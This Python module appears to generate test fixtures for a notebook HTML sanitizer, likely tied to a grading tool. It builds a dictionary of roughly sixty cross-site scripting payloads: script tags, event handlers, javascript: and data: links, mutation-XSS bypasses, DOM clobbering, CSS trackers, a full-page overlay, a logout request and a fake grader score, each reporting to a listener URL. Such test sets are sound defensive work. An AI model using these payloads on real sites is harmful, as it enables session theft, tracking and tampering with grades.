"""HTML that could run, or ask somebody, in the page that shows it: for outputs, Markdown and raw cells of notebooks."""

from __future__ import annotations

import base64
from html import escape


def running(name: str, listener: str) -> str:
    """JavaScript that notes its name in `window.__ran` and asks `listener` for `ran/NAME`."""
    return f"(window.__ran=window.__ran||[]).push('{name}');new Image().src='{listener}/ran/{name}'"


def html_texts(listener: str) -> dict[str, str]:
    """Texts of HTML by name, for outputs, Markdown and raw cells."""

    def on(name: str) -> str:
        return escape(running(name, listener))

    def script(name: str) -> str:
        return f"<script>{running(name, listener)}</script>"

    def page(name: str) -> str:
        return base64.b64encode(script(name).encode()).decode()

    return {
        "script": script("script"),
        "script-src": f'<script src="{listener}/ran/script-src"></script>',
        "script-module": f'<script type="module">{running("script-module", listener)}</script>',
        "script-case": f"<ScRiPt >{running('script-case', listener)}</sCrIpT\n>",
        "script-split": f"<scr<script></script>ipt>{running('script-split', listener)}</script>",
        "script-unclosed": f"<table><td>{script('script-unclosed')}<img src=x onerror={on('script-unclosed')}//",
        "script-mathjax": f'<script type="text/x-mathjax-config">{running("script-mathjax", listener)}</script>',
        "img-onerror": f'<img src="x:" onerror="{on("img-onerror")}">',
        "img-slash": f'<img/src="x:"/onerror="{on("img-slash")}"/>',
        "img-javascript": f'<img src="javascript:{on("img-javascript")}">',
        "img-tracker": f'<img src="{listener}/tracker/img.png">',
        "img-srcset": f'<img srcset="{listener}/tracker/srcset.png 1x" src="">',
        "img-server": '<img src="/logout?asked=img">',
        "img-up": '<img src="../../../../logout?asked=up"><img src="%2e%2e/logout.png"><img src="..\\..\\logout.png">',
        "img-protocol-relative": f'<img src="{listener.partition(":")[2]}/tracker/relative.png">',
        "svg-onload": f'<svg onload="{on("svg-onload")}"><g/></svg>',
        "svg-script": f"<svg><script>{running('svg-script', listener)}</script></svg>",
        "svg-foreign": f'<svg><foreignObject><img src="x:" onerror="{on("svg-foreign")}"></foreignObject></svg>',
        "svg-animate": f'<svg><animate onbegin="{on("svg-animate")}" attributeName="x" dur="1s"/></svg>',
        "svg-link": f'<svg><a href="javascript:{on("svg-link")}"><text y="20">svg link</text></a></svg>',
        "iframe": f'<iframe src="{listener}/ran/iframe"></iframe>',
        "iframe-javascript": f'<iframe src="javascript:parent.{on("iframe-javascript")}"></iframe>',
        "iframe-srcdoc": f'<iframe srcdoc="{escape(script("iframe-srcdoc"))}"></iframe>',
        "iframe-data": f'<iframe src="data:text/html;base64,{page("iframe-data")}"></iframe>',
        "object": f'<object data="data:text/html;base64,{page("object")}"></object>',
        "embed": f'<embed src="data:text/html;base64,{page("embed")}">',
        "details": f'<details open ontoggle="{on("details")}"><summary>more</summary></details>',
        "video": f'<video onerror="{on("video")}"><source src="x:" onerror="{on("video")}"></video>',
        "audio": f'<audio src="x:" onerror="{on("audio")}"></audio>',
        "focus": f'<input autofocus onfocus="{on("focus")}"><a tabindex=0 onfocus="{on("focus")}">f</a>',
        "hover": f'<b onmouseover="{on("hover")}" onclick="{on("hover")}">hover</b>',
        "marquee": f'<marquee onstart="{on("marquee")}">m</marquee>',
        "body": f'<body onload="{on("body")}" onpageshow="{on("body")}">',
        "animation": "<style>@keyframes k{}</style>"
        f'<b style="animation:k" onanimationstart="{on("animation")}">a</b>',
        "link-javascript": f'<a href="javascript:{on("link-javascript")}">link</a>',
        "link-entities": f'<a href="jav&#x0A;ascript&colon;{on("link-entities")}">link</a>',
        "link-control": f'<a href="\x01 javascript:{on("link-control")}">link</a>',
        "link-files": "".join(f'<a href="{one}files/javascript:{on("link-files")}">link</a>' for one in ("", "/")),
        "link-data": f'<a href="data:text/html;base64,{page("link-data")}">link</a>',
        "link-vbscript": '<a href="vbscript:msgbox(1)">link</a>',
        "link-beside": '<a href="evil.html">plot</a> <a href="./evil.svg">plot</a> <a href="/formgrader?path=.">p</a>',
        "form": f'<form action="{listener}/ran/form"><button formaction="javascript:{on("form")}">send</button></form>',
        "meta": f'<meta http-equiv="refresh" content="0;url={listener}/ran/meta">',
        "base": f'<base href="{listener}/ran/base/">',
        "stylesheet": f'<link rel="stylesheet" href="{listener}/tracker/sheet.css">',
        "style": f"<style>@import url({listener}/tracker/style.css); body {{ display: none }}</style>",
        "style-attribute": f'<b style="background:url({listener}/tracker/a);cursor:url({listener}/tracker/b),auto">b',
        "style-fixed": '<div style="position:fixed;inset:0;z-index:9999;margin:-900px;opacity:0">over everything</div>',
        "mutation-math": (
            "<math><mtext><table><mglyph><style><!--</style>"
            f'<img title="--&gt;&lt;img src=x: onerror={on("mutation-math")}&gt;">'
        ),
        "mutation-noscript": f'<noscript><p title="</noscript><img src=x: onerror={on("mutation-noscript")}>">',
        "mutation-svg": f'<svg></p><style><a id="</style><img src=x: onerror={on("mutation-svg")}>">',
        "comment": f"<!--> {script('comment')} --!> <!-- > -->",
        "cdata": f"<![CDATA[<img src=x: onerror={on('cdata')}>]]><?x <img src=x: onerror={on('cdata')}>?>",
        "plaintext": f"<xmp></xmp><textarea></textarea>{script('plaintext')}<plaintext>",
        "tooltip": (
            f'<ul><li class="next"><a title="<img src=x: onerror={on("tooltip")}>" data-html="true">tip</a></li></ul>'
        ),
        "modal": f'<a data-toggle="modal" data-remote="{listener}/ran/modal" data-target="#m">a</a><b id="m">b</b>',
        "clobber": '<img name="MathJax"><form id="formgrader" name="body"></form><a id="base_url" name="cookie"></a>',
        "grader": (
            '<div class="nbgrader_cell"><b id="test-double" class="score">x</b>'
            '<a class="full-credit" href="#">next page</a></div><div id="statusmessage">fake</div>'
        ),
    }
